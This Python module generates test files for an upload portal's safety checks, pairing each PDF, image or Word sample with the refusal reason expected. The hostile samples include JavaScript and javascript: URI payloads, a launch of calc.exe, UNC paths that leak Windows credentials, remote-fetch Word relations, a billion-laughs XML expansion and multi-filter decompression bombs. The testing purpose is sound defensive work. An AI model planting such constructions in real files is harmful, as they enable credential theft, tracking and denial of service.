"""Files that people bring, good and bad, each made here: what the portal should say of each stands beside it."""

import base64
import io
import zipfile
import zlib
from collections.abc import Callable, Iterable
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

FILES: dict[str, tuple[str, Callable[[], bytes]]] = {}
"""By name: the reason it is refused for, or '' where it is taken; and how it is made."""


def file(reason: str = "") -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def noting(make: Callable[[], bytes]) -> Callable[[], bytes]:
        FILES[make.__name__] = reason, make
        return make

    return noting


def pdf(pages: int = 3, words: str = "Speech and language therapy report") -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, invariant=True)
    for n in range(pages):
        canvas.drawString(72, 760, f"{words}, page {n + 1}")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def changed(change: Callable[[pikepdf.Pdf], None], content: bytes = b"", **saving: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content or pdf())) as it:
        change(it)
        it.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def action(**parts: object) -> Dictionary:
    return Dictionary(Type=Name.Action, **parts)


@file()
def report() -> bytes:
    return pdf()


@file()
def report_with_an_owner_password() -> bytes:
    """As NHS letters have it: anybody may read it, nobody may change it."""
    return changed(lambda _: None, encryption=pikepdf.Encryption(owner="secret", user=""))


@file()
def report_in_object_streams() -> bytes:
    return changed(lambda _: None, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def with_link(act: Dictionary) -> bytes:
    def link(it: pikepdf.Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=it.make_indirect(act))
        it.pages[0].Annots = Array([it.make_indirect(annotation)])

    return changed(link)


@file()
def report_with_a_link() -> bytes:
    return with_link(action(S=Name.URI, URI=pikepdf.String("https://www.nhs.uk")))


def opening(act: object, content: bytes = b"") -> bytes:
    """A report that does something when it is opened."""

    def add(it: pikepdf.Pdf) -> None:
        it.Root.OpenAction = act(it) if callable(act) else act

    return changed(add, content)


@file()
def report_that_opens_at_its_second_page() -> bytes:
    return opening(lambda it: Array([it.pages[1].obj, Name.Fit]))


@file()
def report_that_opens_at_its_second_page_and_offers_to_print() -> bytes:
    printing = action(S=Name.Named, N=Name.Print)
    return opening(lambda it: action(S=Name.GoTo, D=Array([it.pages[1].obj, Name.Fit]), Next=printing))


@file()
def report_with_a_link_into_another_report() -> bytes:
    """It opens nothing by itself: who reads it has to follow the link."""
    return with_link(action(S=Name.GoToR, F=pikepdf.String("appendix.pdf"), D=Array([0, Name.Fit])))


@file()
def report_whose_parts_refer_to_each_other() -> bytes:
    """A tagged PDF, where /Ref is what belongs together (PDF 2.0, 14.7.2)."""

    def tag(it: pikepdf.Pdf) -> None:
        note = it.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Note))
        link = it.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Reference, Ref=Array([note])))
        it.Root.StructTreeRoot = it.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=Array([link, note])))

    return changed(tag)


@file()
def scan() -> bytes:
    """A page that is one picture, as copiers send them."""
    out, picture = io.BytesIO(), io.BytesIO()
    Image.effect_noise((1240, 1754), 60).save(picture, "JPEG", quality=60)
    picture.seek(0)
    from reportlab.lib.utils import ImageReader

    canvas = Canvas(out, invariant=True)
    canvas.drawImage(ImageReader(picture), 0, 0, 595, 842)
    canvas.save()
    return out.getvalue()


@file()
def damaged_table_of_a_good_report() -> bytes:
    """Viewers mend this without a word: so do the libraries."""
    return pdf().replace(b"xref\n", b"xreg\n")


def photograph(kind: str = "JPEG", size: tuple[int, int] = (800, 600), **saving: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, kind, **saving)
    return out.getvalue()


@file()
def jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # lies on its side
    exif.get_ifd(0x8825)[1] = "N"
    exif[0x010F] = "Phone of a teacher"
    return photograph(exif=exif)


@file()
def png() -> bytes:
    return photograph("PNG")


@file()
def heic() -> bytes:
    from pillow_heif import register_heif_opener

    register_heif_opener()
    return photograph("HEIF")


@file("empty")
def empty() -> bytes:
    return b""


@file("unknown")
def page_of_a_website() -> bytes:
    return b"<!doctype html><script>alert(1)</script>"


@file("unknown")
def program() -> bytes:
    return b"MZ" + bytes(500)


@file("unknown")
def zip_of_anything() -> bytes:
    return packed({"readme.txt": b"hello"})


def packed(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as it:
        for name, content in parts.items():
            it.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)  # without the hour, so it stays the same
    return out.getvalue()


def word(*relations: str, body: str = "", pages: int = 0) -> bytes:
    """A Word document of one line, as the standard (ECMA-376) asks for, perhaps with more, or with many pages more."""
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    office = "http://schemas.openxmlformats.org/"
    kind = "application/vnd.openxmlformats-"
    page = '<w:p><w:r><w:br w:type="page"/><w:t>Next</w:t></w:r></w:p>'
    return packed(
        {
            "[Content_Types].xml": (
                f'{head}<Types xmlns="{office}package/2006/content-types">'
                f'<Default Extension="rels" ContentType="{kind}package.relationships+xml"/>'
                '<Override PartName="/word/document.xml"'
                f' ContentType="{kind}officedocument.wordprocessingml.document.main+xml"/></Types>'
            ).encode(),
            "_rels/.rels": (
                f'{head}<Relationships xmlns="{office}package/2006/relationships"><Relationship Id="r1"'
                f' Type="{office}officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
                "</Relationships>"
            ).encode(),
            "word/_rels/document.xml.rels": (
                f'{head}<Relationships xmlns="{office}package/2006/relationships">{"".join(relations)}</Relationships>'
            ).encode(),
            "word/document.xml": (
                f'{head}<w:document xmlns:w="{office}wordprocessingml/2006/main"><w:body><w:p><w:r>'
                f"<w:t>Provision map, Ćwiczenia</w:t></w:r></w:p>{body}{page * pages}</w:body></w:document>"
            ).encode(),
        }
    )


def word_begun_from_a_template(address: str) -> bytes:
    """As most letters are: the template's address stands in them, though they need it no more."""
    office, kind = (
        "http://schemas.openxmlformats.org/",
        "application/vnd.openxmlformats-officedocument.wordprocessingml",
    )
    relation = f"{office}officeDocument/2006/relationships"
    with zipfile.ZipFile(
        io.BytesIO(word(f'<Relationship Id="r7" Type="{relation}/settings" Target="settings.xml"/>'))
    ) as it:
        parts = {name: it.read(name) for name in it.namelist()}
    override = f'<Override PartName="/word/settings.xml" ContentType="{kind}.settings+xml"/></Types>'
    return packed(
        parts
        | {
            "[Content_Types].xml": parts["[Content_Types].xml"].replace(b"</Types>", override.encode()),
            "word/settings.xml": (
                f'<w:settings xmlns:w="{office}wordprocessingml/2006/main"><w:attachedTemplate xmlns:r="{relation}"'
                ' r:id="r1"/></w:settings>'
            ).encode(),
            "word/_rels/settings.xml.rels": (
                f'<Relationships xmlns="{office}package/2006/relationships"><Relationship Id="r1"'
                f' Type="{relation}/attachedTemplate" Target="{address}" TargetMode="External"/></Relationships>'
            ).encode(),
        }
    )


def word_with_a_picture_from(address: str) -> bytes:
    """A Word document that shows a picture which lies elsewhere."""
    office = "http://schemas.openxmlformats.org/"
    drawing, picture = f"{office}drawingml/2006/main", f"{office}drawingml/2006/picture"
    size = 'cx="990000" cy="990000"'
    return word(
        f'<Relationship Id="r8" Type="{office}officeDocument/2006/relationships/image" Target="{address}"'
        ' TargetMode="External"/>',
        body=f'<w:p><w:r><w:drawing><p:inline xmlns:p="{office}drawingml/2006/wordprocessingDrawing"><p:extent {size}/>'
        f'<p:docPr id="1" name="a"/><a:graphic xmlns:a="{drawing}"><a:graphicData uri="{picture}">'
        f'<c:pic xmlns:c="{picture}"><c:nvPicPr><c:cNvPr id="1" name="a"/><c:cNvPicPr/></c:nvPicPr><c:blipFill>'
        f'<a:blip xmlns:r="{office}officeDocument/2006/relationships" r:link="r8"/><a:stretch><a:fillRect/></a:stretch>'
        f'</c:blipFill><c:spPr><a:xfrm><a:off x="0" y="0"/><a:ext {size}/></a:xfrm><a:prstGeom prst="rect"/></c:spPr>'
        "</c:pic></a:graphicData></a:graphic></p:inline></w:drawing></w:r></w:p>",
    )


@file("bad_word")
def word_that_fetches_a_picture() -> bytes:
    return word('<Relationship Id="r9" Type="x/image" Target="http://192.0.2.1/a.png" TargetMode="External"/>')


@file("bad_word")
def word_that_fetches_a_picture_in_other_letters() -> bytes:
    """It is the same to whoever reads XML."""
    return word('<Relationship Id="r9" Type="x/image" Target="http://192.0.2.1/a.png" TargetMode="&#69;xternal"/>')


@file("bad_word")
def word_that_fetches_a_picture_and_says_it_is_a_link() -> bytes:
    target = 'Target="http://192.0.2.1/a.png?/hyperlink&quot;" Other="/hyperlink"'
    return word(f'<Relationship Id="r9" Type="x/image" {target} TargetMode="External"/>')


@file("bad_word")
def word_with_two_parts_of_one_name() -> bytes:
    """One program may read the first of them, another the second."""
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as it:
        it.writestr("Word/Document.xml", b"<w:document/>")
    return out.getvalue()


@file("bad_word")
def word_whose_relations_unfold_to_gigabytes() -> bytes:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "x" * 99}">' for n in range(9))
    return packed(
        {"word/document.xml": b"<w:document/>", "_rels/.rels": f"<!DOCTYPE a [{entities}]><a>&e8;</a>".encode()}
    )


@file("old_word")
def word_with_macros() -> bytes:
    return packed({"word/document.xml": b"<w:document/>", "word/vbaProject.bin": b"x"})


@file("old_word")
def word_that_unpacks_to_a_gigabyte() -> bytes:
    return packed({"word/document.xml": bytes(300 << 20)})


@file("old_word")
def word_of_1997() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)


@file("bad_photo")
def half_a_photograph() -> bytes:
    return photograph()[:500]


@file("large_photo")
def photograph_of_a_hundred_million_dots() -> bytes:
    out = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")
    return out.getvalue()


@file("password")
def report_with_a_password() -> bytes:
    return changed(lambda _: None, encryption=pikepdf.Encryption(owner="secret", user="word"))


@file("broken")
def half_a_report() -> bytes:
    return pdf()[:600]


@file("broken")
def only_the_first_line_of_a_report() -> bytes:
    return b"%PDF-1.7\nnothing\n%%EOF\n"


@file("broken")
def report_without_pages() -> bytes:
    def without(it: pikepdf.Pdf) -> None:
        del it.pages[:]

    return changed(without)


@file("broken")
def page_of_a_kilometre() -> bytes:
    def stretch(it: pikepdf.Pdf) -> None:
        it.pages[0].MediaBox = Array([0, 0, 3_000_000, 3_000_000])

    return changed(stretch)


@file("broken")
def pages_that_lead_to_themselves() -> bytes:
    def bend(it: pikepdf.Pdf) -> None:
        it.Root.Pages.Kids.append(it.Root.Pages)

    return changed(bend)


@file("mixed")
def website_before_a_report() -> bytes:
    return b"<html><script>alert(1)</script>" + pdf()


@file("mixed")
def zip_after_a_report() -> bytes:
    return pdf() + zip_of_anything()


@file("mixed")
def website_after_a_report() -> bytes:
    return pdf() + b"<script>alert(1)</script>"


@file("active")
def script_when_opened() -> bytes:
    def act(it: pikepdf.Pdf) -> None:
        it.Root.OpenAction = action(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))

    return changed(act)


@file("active")
def script_among_names() -> bytes:
    def act(it: pikepdf.Pdf) -> None:
        script = action(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        it.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), script])))

    return changed(act)


@file("active")
def script_in_an_object_stream() -> bytes:
    def act(it: pikepdf.Pdf) -> None:
        it.pages[1].AA = Dictionary(O=action(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)")))

    return changed(act, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@file("active")
def program_started_by_a_link() -> bytes:
    def act(it: pikepdf.Pdf) -> None:
        launch = action(S=Name.Launch, F=pikepdf.String("calc.exe"))
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=launch)
        it.pages[0].Annots = Array([it.make_indirect(link)])

    return changed(act)


@file("active")
def form_that_sends_itself() -> bytes:
    def act(it: pikepdf.Pdf) -> None:
        it.Root.OpenAction = action(S=Name.SubmitForm, F=pikepdf.String("https://example.org"))

    return changed(act)


def to(address: str) -> Dictionary:
    return action(S=Name.URI, URI=pikepdf.String(address))


@file("active")
def script_behind_a_link() -> bytes:
    return with_link(to("javascript:alert(1)"))


@file("active")
def script_behind_a_link_written_with_blanks() -> bytes:
    """A browser that is given it leaves the line breaks out."""
    return with_link(to(" JaVa\nScript:alert(1)"))


@file("active")
def script_that_every_link_begins_with() -> bytes:
    def add(it: pikepdf.Pdf) -> None:
        it.Root.URI = Dictionary(Base=pikepdf.String("javascript:"))

    return changed(add, with_link(to("alert(1)")))


@file("active")
def page_of_a_website_behind_a_link() -> bytes:
    return with_link(to("data:text/html,<script>alert(1)</script>"))


SHARE = "\\\\files.example.org\\share\\letter.pdf"


@file("reaching")
def file_of_a_foreign_server_when_opened() -> bytes:
    """Windows would send that server the person's password in scrambled form."""
    return opening(action(S=Name.GoToR, F=pikepdf.String(SHARE), D=Array([0, Name.Fit])))


@file("reaching")
def website_when_opened() -> bytes:
    return opening(to("https://example.org/who-read-it"))


@file("reaching")
def website_after_the_second_page_when_opened() -> bytes:
    def show(it: pikepdf.Pdf) -> Dictionary:
        return action(
            S=Name.GoTo, D=Array([it.pages[1].obj, Name.Fit]), Next=Array([it.make_indirect(to("https://a"))])
        )

    return opening(show)


@file("reaching")
def action_that_leads_to_itself_when_opened() -> bytes:
    def bend(it: pikepdf.Pdf) -> Dictionary:
        first = it.make_indirect(action(S=Name.Named, N=Name.NextPage))
        first.Next = first
        return first

    return opening(bend)


def with_form(**parts: object) -> bytes:
    """A report whose first page shows a picture made of drawing commands."""

    def add(it: pikepdf.Pdf) -> None:
        form = it.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 99, 99], **parts)
        it.pages[0].Resources.XObject = Dictionary(I=form)

    return changed(add)


@file("reaching")
def page_of_another_file_on_a_page() -> bytes:
    return with_form(Ref=Dictionary(F=pikepdf.String(SHARE), Page=0))


@file("reaching")
def drawing_that_lies_in_another_file() -> bytes:
    return with_form(F=pikepdf.String(SHARE))


@file("reaching")
def drawing_that_lies_on_a_website() -> bytes:
    return with_form(F=Dictionary(FS=Name.URL, F=pikepdf.String("https://example.org/drawing")))


@file("active")
def form_made_of_xml() -> bytes:
    def act(it: pikepdf.Pdf) -> None:
        it.Root.AcroForm = Dictionary(Fields=Array(), XFA=it.make_stream(b"<xdp/>"))

    return changed(act)


@file("active")
def film() -> bytes:
    def act(it: pikepdf.Pdf) -> None:
        it.pages[0].Annots = Array(
            [it.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9]))]
        )

    return changed(act)


@file("attached")
def report_with_a_file_attached() -> bytes:
    def attach(it: pikepdf.Pdf) -> None:
        it.attachments["notes.txt"] = b"hidden"

    return changed(attach)


@cache
def deflated() -> bytes:
    """Some 400 kB that become 400 MB."""
    return zlib.compress(bytes(400 << 20), 9)


def lzw(codes: Iterable[int]) -> bytes:
    """Codes as the LZW filter has them: wider, the more words are known since the last 256, which forgets them."""
    bits, known = [], 257
    for code in codes:
        bits.append(f"{code:0{min(12, (max(known, 258) + 1).bit_length())}b}")
        known = 257 if code == 256 else known + 1
    whole = "".join(bits)
    return int(whole + "0" * (-len(whole) % 8), 2).to_bytes(-(-len(whole) // 8), "big")


def literally(content: bytes) -> bytes:
    """LZW that has made nothing smaller."""
    return lzw(code for at in range(0, len(content), 200) for code in (256, *content[at : at + 200]))


def in_85(content: bytes) -> bytes:
    return base64.a85encode(content) + b"~>"


def broken_off(content: bytes) -> bytes:
    """Deflated, and then a block of a kind that there is not."""
    packing = zlib.compressobj()
    return packing.compress(content) + packing.flush(zlib.Z_FULL_FLUSH) + b"\x06"


# Each is some 400 kB, and becomes 400 MB in a program that undoes all its filters.
FOLDED: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "bomb": ("bomb", "FlateDecode", lambda: deflated()),
    "bomb_in_a_bomb": ("bomb", "FlateDecode FlateDecode", lambda: zlib.compress(deflated(), 9)),
    "bomb_in_hex": ("bomb", "ASCIIHexDecode FlateDecode", lambda: deflated().hex().encode() + b">"),
    "bomb_in_hex_by_its_short_name": ("bomb", "AHx Fl", lambda: deflated().hex(" ", 40).encode()),
    "bomb_in_hex_with_a_fault": ("broken", "ASCIIHexDecode FlateDecode", lambda: b"!" + deflated().hex().encode()),
    "bomb_in_base_85": ("bomb", "ASCII85Decode FlateDecode", lambda: in_85(deflated())),
    "bomb_in_base_85_with_a_beginning": ("bomb", "ASCII85Decode FlateDecode", lambda: b" <~" + in_85(deflated())),
    "bomb_in_base_85_with_a_fault": ("broken", "ASCII85Decode FlateDecode", lambda: in_85(deflated())[:-2] + b"\x7f~>"),
    "bomb_in_runs": ("bomb", "RunLengthDecode FlateDecode", lambda: runs(deflated())),
    "bomb_of_runs": ("bomb", "RunLengthDecode", lambda: b"\x81\0" * 1_400_000),
    "bomb_in_lzw": ("bomb", "LZWDecode FlateDecode", lambda: literally(deflated())),
    "bomb_of_lzw": ("bomb", "LZWDecode", lambda: lzw([256, 0, *range(258, 4000)] * 60)),
    "bomb_without_its_first_bytes": ("bomb", "FlateDecode", lambda: deflated()[2:]),
    "bomb_behind_a_fault": ("broken", "FlateDecode FlateDecode", lambda: broken_off(deflated())),
    "bomb_in_a_picture_s_packing": ("broken", "DCTDecode FlateDecode", lambda: deflated()),
    "bomb_after_nothing": ("bomb", "Krypt FlateDecode", lambda: deflated()),
    "much_in_many_steps": ("bomb", " ".join(["FlateDecode"] * 3), lambda: zlib.compress(zlib.compress(bytes(6 << 20)))),
}  # fmt: skip


def runs(content: bytes) -> bytes:
    """As the run-length filter has what has no runs."""
    return b"".join(
        bytes((len(piece) - 1,)) + piece for piece in (content[at : at + 128] for at in range(0, len(content), 128))
    )


for _name, (_reason, _filters, _make) in FOLDED.items():
    FILES[_name] = (
        _reason,
        lambda filters=_filters, make=_make: with_stream(
            make(), Array([Name(f"/{it}") for it in filters.split()])
        ).replace(b"/Krypt", b"/Crypt"),
    )  # which cannot be written by itself


def with_stream(raw: bytes, filters: object) -> bytes:
    def add(it: pikepdf.Pdf) -> None:
        it.pages[0].Contents = it.make_stream(b"")
        it.pages[0].Contents.write(raw, filter=filters)  # type: ignore[arg-type]

    return changed(add, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


@file("bomb")
def picture_larger_than_a_wall() -> bytes:
    def add(it: pikepdf.Pdf) -> None:
        picture = it.make_stream(b"")
        picture.write(b"x", filter=Name.DCTDecode)
        picture.stream_dict.Type, picture.stream_dict.Subtype = Name.XObject, Name.Image
        picture.stream_dict.Width, picture.stream_dict.Height = 100_000, 100_000
        it.pages[0].Resources.XObject = Dictionary(I=picture)

    return changed(add, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


@file("bomb")
def nests_ten_thousand_deep() -> bytes:
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /Deep " + b"[" * 400 + b"]" * 400)


@file("pages")
def thousand_pages() -> bytes:
    return pdf(1_000)
